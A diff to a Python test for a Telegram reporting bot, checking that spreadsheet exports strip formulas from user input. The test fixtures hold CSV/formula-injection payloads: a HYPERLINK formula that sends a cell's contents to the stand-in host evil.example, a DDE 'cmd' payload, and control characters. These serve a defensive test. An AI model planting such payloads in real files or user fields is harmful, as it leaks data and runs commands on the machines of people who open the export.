@@ -15,6 +15,7 @@ from bot.sanitize import clean_json, clean_line, clean_text
 from tests.fakes.chat import ChatDriver
 
 EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")\x00\x07\u202e'
+EVIL_FULL_NAME = '=HYPERLINK("http://evil.example/?x="&A1)\x00'  # no comma: "full name, position"
 
 
 def test_clean_text_and_line() -> None:
@@ -34,11 +35,12 @@ async def test_nul_and_controls_never_reach_the_database(chat: ChatDriver, app: 
 
 
 async def test_exports_hold_no_formula_from_user_input(chat: ChatDriver, app: Any) -> None:
-    await chat.register("lan", "Sở Y tế")
+    # Exports name the submitter by the full name given at registration: make it a formula.
+    await chat.register("lan", "Sở Y tế", profile=EVIL_FULL_NAME + ", chuyên viên")
     await chat.report(
         "lan", ["2024", "2", "=cmd|' /C calc'!A0", "+1+1 kết quả\x00", "-2-3", "@SUM(A1)", None, None]
     )
-    await chat.send("lan", "/trogiup", name=EVIL_NAME)  # the submitter's name, as Telegram gives it
+    await chat.send("lan", "/trogiup", name=EVIL_NAME)  # the chat handle, as Telegram gives it
     xlsx = load_workbook(io.BytesIO(export(app, 2024, "xlsx")))
     ws = xlsx.active
     cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
